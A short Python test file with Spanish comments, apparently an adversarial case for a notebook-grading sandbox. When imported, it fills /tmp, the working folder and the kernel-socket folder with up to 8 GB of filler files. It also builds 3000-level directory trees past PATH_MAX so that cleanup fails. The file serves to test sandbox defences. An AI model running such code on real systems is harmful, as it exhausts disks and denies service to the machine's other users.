"""Llena /tmp y la carpeta de su cuaderno y deja árboles de carpetas sin fondo, también en la carpeta de sus sockets.

/tmp era un tmpfs sin tope, fuera del límite de memoria; la carpeta del cuaderno, una copia en el
disco del profesor; un árbol muy hondo hacía que shutil.rmtree fallara en silencio al limpiar, y
la carpeta de los sockets del núcleo (en el disco del profesor) se quedaba llena.

esperado: salmorejo=0 esquema=0 excepciones=0 una-vez=0 resultados=0 escrituras=0 guiones=0
"""

import os
import sys


def ejecutar(llamada, entorno):
    return error(llamada["id"], "x")


_sockets = [os.path.dirname(a) for a in sys.argv if a.endswith(".json")]  # la carpeta del fichero de conexión
for _carpeta in ["/tmp", os.getcwd()] + _sockets:
    _trozo = b"x" * (8 * 1024 ** 2)
    try:
        for _n in range(1000 if _carpeta not in _sockets else 2):  # hasta 8 GB si nadie lo para
            with open(os.path.join(_carpeta, "relleno-%d" % _n), "wb") as _f:
                _f.write(_trozo)
    except OSError:
        pass
    _actual = _carpeta
    try:
        for _n in range(3000):
            _actual = os.path.join(_actual, "d")
            os.mkdir(_actual)
            os.chdir(_actual)  # con rutas relativas, el árbol puede ser más hondo que PATH_MAX
            _actual = "."
    except OSError:
        pass
    os.chdir(_carpeta if _carpeta != "/tmp" else "/")
